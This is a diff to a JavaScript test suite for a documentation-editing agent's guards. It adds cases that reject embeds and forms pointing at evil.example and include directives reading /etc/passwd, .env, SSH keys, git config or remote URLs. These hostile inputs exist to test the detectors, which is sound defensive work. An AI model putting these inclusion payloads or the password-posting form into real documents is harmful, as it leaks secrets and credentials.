@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
-import { findAddedCode } from '../../../src/service/agent/workspace/page-code.js';
+import { findAddedCode, findAddedInclusions } from '../../../src/service/agent/workspace/page-code.js';
 import { findSvgCode } from '../../../src/service/agent/workspace/svg-code.js';
 import { WritableFiles } from '../../../src/service/agent/workspace/writable-files.js';
 
@@ -226,6 +226,12 @@ describe('In a page, jobs may not add', () => {
     '> ```{raw} html\n> <script>x</script>\n> ```',
     '<a href=" java&#115;cript:run()">',
     '<iframe src="https://evil.example">',
+    '<object data="https://evil.example">',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<button form="login" formaction="https://evil.example">',
+    '<style>@import "https://evil.example";</style>',
+    '```{automodule} os\n```',
+    ':::{autoclass} a.B\n:::',
   ]) {
     it(JSON.stringify(text), () => {
       for (const before of ['', '# Page\n\nText {a.b}.\n'])
@@ -256,6 +262,10 @@ describe('In a page, jobs may not add', () => {
       '.. program-output:: id',
       '.. jupyter-execute::\n\n   print(1)',
       '.. ipython:: python\n\n   !id',
+      '.. automodule:: antigravity\n   :members:',
+      '.. autoclass:: a.B',
+      '.. js:autofunction:: a',
+      '.. click:: a:b',
       '`x <javascript:run()>`_',
     ])
       assert.notDeepEqual(findAddedCode('page.rst', 'Page\n====\n', `Page\n====\n\n${text}\n`), [], text);
@@ -317,6 +327,113 @@ describe('The search for code in a page takes time in proportion to its length',
       assert.ok(Array.isArray(findAddedCode('a.mdx', '', unit.repeat(500_000 / unit.length))));
     });
   }
+});
+
+describe('A page may include files of its docs', () => {
+  for (const [path, ...texts] of [
+    [
+      'docs/guide/page.md',
+      '--8<-- "shared/note.md"',
+      '```js\n--8<-- "../examples/a.js:3:7"\n```',
+      '--8<--\na.md\n../b.md\n--8<--',
+      ';--8<-- "/etc/passwd"',
+      '{% include "../parts/note.md" %}',
+      '{% include note.html title="a/b" %}',
+      '{%- include-markdown "./a.md" start="x" -%}',
+      '{{#include ../listing.rs:2:10}}',
+      '{{#include a.rs:anchor}}',
+      '\\{{#include /etc/passwd}}',
+      '<<< @/snippets/a.js#region{1,3}',
+      '<<< ../a.js',
+      '<!--@include: ./parts/a.md{3,}-->',
+      '{{< include "a.md" >}}',
+      '```{include} ../a.md\n```',
+      '```{literalinclude} ../examples/a.py\n:lines: 1-3\n```',
+      'a <<< b, and .. include:: ../../../a',
+    ],
+    [
+      'docs/guide/page.rst',
+      '.. include:: ../shared/note.rst',
+      '.. include:: <isonum.txt>',
+      '.. literalinclude:: a.py\n   :lines: 1-3',
+      '.. csv-table::\n   :file: ../data/a.csv',
+    ],
+    [
+      'docs/modules/a/pages/page.adoc',
+      'include::../partials/a.adoc[]',
+      'include::partial$a.adoc[tag=x]',
+      '----\ninclude::a.rb[lines=1..3]\n----',
+      '\\include::/etc/passwd[]',
+    ],
+    ['README.md', '--8<-- "docs/a.md"', '<<< src/a.js'],
+  ] as const)
+    for (const text of texts)
+      it(`${path}: ${JSON.stringify(text)}`, () =>
+        assert.deepEqual(findAddedInclusions(path, '', `Page\n\n${text}\n`), []));
+});
+
+describe('A page may not include what is elsewhere, or may hold keys', () => {
+  for (const [path, ...texts] of [
+    [
+      'docs/guide/page.md',
+      '--8<-- "/etc/passwd"',
+      '--8<-- "../../config/production.yml"',
+      '    --8<-- "https://evil.example/a.md"',
+      '```\n--8<-- ".env"\n```',
+      '--8<--\na.md\n../../../a\n--8<--',
+      '--8<--\n/etc/passwd',
+      '{% include "/etc/passwd" %}',
+      "{%- include '../../../.env' -%}",
+      '{% include {{ page.file }} %}',
+      '{% include_relative ../../package.json %}',
+      '{% include-markdown "../../secrets.md" %}',
+      '{% include a.md %}{% include ~/.ssh/config %}',
+      '{{#include ../../.git/config}}',
+      '{{ #include /proc/self/environ }}',
+      '{{#rustdoc_include C:\\a.rs}}',
+      '{{< readfile file="/etc/passwd" >}}',
+      '{{% include "../../a" %}}',
+      '<<< @/../.env',
+      '<<< @/.vitepress/config.ts',
+      '<<< ../../server/a.ts{1}',
+      '<!--@include: ../../a.md-->',
+      '<!-- @include:\n/etc/passwd -->',
+      '<!--@include: a</../../../b.md-->',
+      '```{include} /etc/passwd\n```',
+      ':::{literalinclude} ../../.env\n:::',
+      '```{csv-table}\n:file: /etc/passwd\n```',
+      '--8<-- "id_rsa"',
+      '--8<-- "server.key"',
+      '--8<-- "a b/../../../c"',
+    ],
+    [
+      'docs/guide/page.rst',
+      '.. include:: /etc/passwd',
+      '.. include:: ../../a.rst',
+      '.. include:: ..\n   /../a.rst',
+      '.. include:: a /../../../b',
+      '.. literalinclude:: ../../.env\n   :lines: 1',
+      '.. literalinclude::\n   /proc/self/environ',
+      '.. csv-table::\n   :file: /etc/passwd',
+      '.. csv-table::\n   :url: https://evil.example/a.csv',
+      '.. |x| include:: /etc/passwd',
+    ],
+    [
+      'docs/page.adoc',
+      'include::/etc/passwd[]',
+      'include::../.env[]',
+      'include::{docdir}/../../a[]',
+      'include::{secret}[]',
+      'include::https://evil.example/a.adoc[]',
+      '----\ninclude::a/../../b[]\n----',
+    ],
+    ['README.md', '--8<-- "../a.md"', '--8<-- ".git/config"'],
+  ] as const)
+    for (const text of texts)
+      it(`${path}: ${JSON.stringify(text)}`, () => {
+        assert.notDeepEqual(findAddedInclusions(path, '# Page\n', `# Page\n\n${text}\n`), []);
+        assert.deepEqual(findAddedInclusions(path, text, `${text}\n\nMore text.\n`), [], 'what was there stays');
+      });
 });
 
 describe('In an SVG image, jobs may draw', () => {
